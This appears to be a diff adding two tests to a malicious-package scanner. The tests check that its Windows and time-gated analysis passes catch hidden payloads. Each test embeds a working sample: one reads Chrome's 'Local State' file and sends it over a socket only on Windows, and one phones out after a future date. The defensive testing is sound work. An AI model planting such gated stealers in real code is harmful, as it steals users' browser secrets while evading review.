@@ -494,3 +494,62 @@ def test_a_windows_gated_downloader_in_setup_py_runs_in_the_windows_pass(tmp_pat
         (f.rule_id, f.pass_name) for f in spawned
     ]
     assert report.verdict is Verdict.MALICIOUS and code == 1, report.verdict_reason
+
+
+def test_a_windows_gated_browser_stealer_in_a_module_is_caught_in_the_hinted_windows_pass(
+    tmp_path: Path,
+) -> None:
+    """A module that reads Chrome's ``Local State`` and sends it only where
+    ``os.name == "nt"``: on Linux nothing fails and no kept static rule matched, so the
+    Windows pass never ran (clean). The host's hint (a Windows gate beside a browser
+    store) runs it now, where the honey tree's file is read and sent."""
+    r = Randomised()
+    host, port = r.address(), r.port()
+    src = textwrap.dedent(f"""\
+        import os, socket
+        def _sync():
+            base = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data")
+            with open(os.path.join(base, "Local State"), "rb") as fh:
+                state = fh.read()
+            s = socket.create_connection(({host!r}, {port}), timeout=5)
+            head = b"POST /u HTTP/1.1\\r\\nHost: x.invalid\\r\\nContent-Length: %d\\r\\n\\r\\n"
+            s.sendall(head % len(state) + state)
+            s.close()
+        if os.name == "nt":
+            _sync()
+        """)
+    report = _vet(tmp_path, r.name("chromesync"), src)
+    win = [p for p in report.phases if p.pass_name == "windows"]
+    assert win and "browser, messenger or wallet store" in win[0].pass_note, [
+        (p.phase, p.pass_name, p.pass_note) for p in report.phases
+    ]
+    assert report.verdict is Verdict.MALICIOUS, report.verdict_reason
+    assert any(f.rule_id in ("PS010", "PS012") and f.pass_name == "windows" for f in report.findings), [
+        (f.rule_id, f.pass_name) for f in report.findings
+    ]
+
+
+def test_a_date_gated_payload_wakes_in_the_hinted_time_pass(tmp_path: Path) -> None:
+    """``if time.time() > <a date a few weeks ahead>:`` at import, nothing probed, nothing
+    lingering: the time pass never ran and the payload stayed dormant. The host's hint
+    (the clock compared with a literal date) runs it; the clock there is past the date."""
+    r = Randomised()
+    host, port = r.address(), r.port()
+    when = int(datetime.datetime.now().timestamp()) + 86400 * r.rng.randrange(3, 20)
+    src = textwrap.dedent(f"""\
+        import socket, time
+        if time.time() > {when}:
+            s = socket.create_connection(({host!r}, {port}), timeout=5)
+            s.sendall(b"GET /go HTTP/1.1\\r\\nHost: x.invalid\\r\\n\\r\\n")
+            s.close()
+        """)
+    report = _vet(tmp_path, r.name("later"), src)
+    rows = [p for p in report.phases if p.pass_name == "time"]
+    assert rows and "compare the clock with a date" in rows[0].pass_note, [
+        (p.phase, p.pass_name, p.pass_note) for p in report.phases
+    ]
+    sent = [f for f in report.findings if f.rule_id == "PS002"]
+    assert sent and {f.pass_name for f in sent} == {"time"}, [
+        (f.rule_id, f.pass_name) for f in report.findings
+    ]
+    assert report.verdict is not Verdict.CLEAN
